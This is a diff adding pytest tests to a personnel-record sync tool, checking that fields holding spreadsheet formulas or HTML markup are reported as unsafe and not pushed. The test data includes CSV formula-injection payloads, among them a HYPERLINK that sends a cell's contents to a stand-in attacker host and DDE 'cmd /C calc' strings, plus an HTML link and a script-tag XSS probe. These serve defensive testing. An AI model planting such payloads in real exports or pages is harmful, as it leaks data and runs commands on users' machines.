@@ -6,6 +6,7 @@ from collections.abc import Iterator
 
 import pytest
 
+from syncd import messages
 from syncd.messages import problem_text
 from syncd.model import PersonStatus
 from syncd.source import RawRecord, SourceError
@@ -205,3 +206,37 @@ def test_the_english_reason_stays_for_the_logs() -> None:
     snapshot = build_snapshot(ListSource(DEPTS, [good("A1", mobile="12345")]), "D1", CODES)
     [issue] = snapshot.issues
     assert issue.reason.startswith("not an 11-digit mainland mobile number") and issue.code == "mobile.invalid"
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击修正")'
+
+
+@pytest.mark.parametrize(("fields", "field"), [
+    ({"post": HYPERLINK}, "post"),
+    ({"post": "@SUM(1+1)*cmd|' /C calc'!A0"}, "post"),
+    ({"leader_duties": "+HYPERLINK(\"http://evil.example\")", "role": "领导"}, "leader_duties"),
+    ({"rank": "-2+3+cmd|' /C calc'!A0"}, "rank"),
+    ({"office_phone": '<a href="http://evil.example">电话</a>'}, "office_phone"),
+    ({"post_level": "<script>alert(1)</script>"}, "post_level"),
+])
+def test_markup_or_a_formula_in_an_article9_field_is_left_out_and_reported(fields: dict[str, str], field: str) -> None:
+    snapshot = build_snapshot(ListSource(DEPTS, [good("A1", **fields)]), "D1", CODES)
+    [issue] = snapshot.issues
+    assert (issue.field, issue.problem, issue.code) == (field, "invalid", f"{field}.unsafe")
+    assert problem_text(issue).startswith(f"{messages.field_label(field)}含有网页标记或表格公式")
+    assert field not in snapshot.people["A1"].pushed_fields()
+
+
+def test_a_name_holding_a_formula_is_reported_and_still_the_persons_name() -> None:
+    snapshot = build_snapshot(ListSource(DEPTS, [good("A1", name=HYPERLINK)]), "D1", CODES)
+    [issue] = snapshot.issues
+    assert (issue.field, issue.code) == ("name", "name.unsafe")
+    assert snapshot.people["A1"].name == HYPERLINK and "name" not in snapshot.people["A1"].invalid
+
+
+@pytest.mark.parametrize("fields", [
+    {"office_phone": "+86 371 6718 0000"}, {"office_phone": "-"}, {"mobile": "+86 138 0000 0001"},
+    {"name": "<无名氏>"}, {"post": "副处长（主持工作）"}, {"post": "a < b"}, {"name": "阿卜杜拉·买买提"},
+])
+def test_ordinary_values_that_start_with_a_sign_or_hold_brackets_are_not_flagged(fields: dict[str, str]) -> None:
+    assert build_snapshot(ListSource(DEPTS, [good("A1", **fields)]), "D1", CODES).issues == []
